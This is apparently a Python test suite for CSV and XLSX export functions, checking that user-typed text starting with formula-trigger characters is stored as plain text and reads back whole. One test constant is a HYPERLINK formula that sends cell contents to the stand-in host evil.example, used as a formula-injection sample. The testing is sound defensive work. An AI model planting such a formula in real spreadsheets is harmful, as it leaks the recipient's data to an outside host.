"""A text that somebody typed never becomes a formula in the spreadsheet program of whoever opens our file."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from shared.kit.spreadsheets import read_table, write_csv, write_xlsx

# Excel, WPS and LibreOffice take these for the beginning of a formula, the full-width ones in Chinese versions.
SIGNS = "=+-@\t\r\n＝＋－＠"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TYPED = st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=30)
DANGEROUS = st.builds(str.__add__, st.text(st.sampled_from("'" + SIGNS), min_size=1, max_size=3), TYPED)


def fields_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheets_of(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {
            name: archive.read(name).decode()
            for name in archive.namelist()
            if name.startswith("xl/worksheets/s")
        }


@given(text=DANGEROUS | TYPED)
@example(text=FORMULA)
@example(text="＝1+1")
@example(text="'=1+1")
@example(text="\r=1+1")
def test_no_field_of_a_csv_begins_a_formula_in_header_or_row(text: str) -> None:
    header, row = fields_of(write_csv([[text]], [[text]]))

    assert header == row
    assert row[0].isspace() or not row[0].startswith(tuple(SIGNS))


@given(text=DANGEROUS)
@example(text=FORMULA)
@example(text="'=1+1")
@example(text="''")
def test_what_was_typed_comes_back_whole(text: str) -> None:
    if not text.strip("'" + SIGNS):
        text += "x"

    assert read_table(write_csv([["案号"]], [[text]]), "a.csv").rows[0].cells == (text,)


@pytest.mark.parametrize("sign", SIGNS)
def test_a_workbook_holds_typed_text_as_text_wherever_it_stands(sign: str) -> None:
    text = f"{sign}1+1"

    content = write_xlsx(
        [[text, "乙"]],
        [[text, FORMULA]],
        column_notes={0: text},
        choices={1: [text, FORMULA * 10, "a,b"]},
    )

    for name, sheet in sheets_of(content).items():
        assert "<f>" not in sheet, name
        assert "<f " not in sheet, name
        assert all('t="s"' in cell for cell in re.findall(r"<c [^>]*>", sheet)), name
        assert "<hyperlink" not in sheet, name
    assert read_table(content, "a.xlsx").header[0].strip() == text.strip()


def test_a_number_below_zero_is_no_text_and_needs_no_guard() -> None:
    assert fields_of(write_csv([], [[-5, "-5"]])) == [["-5", "'-5"]]
    assert '<c r="A1"><v>-5</v>' in sheets_of(write_xlsx([], [[-5]]))["xl/worksheets/sheet1.xml"]
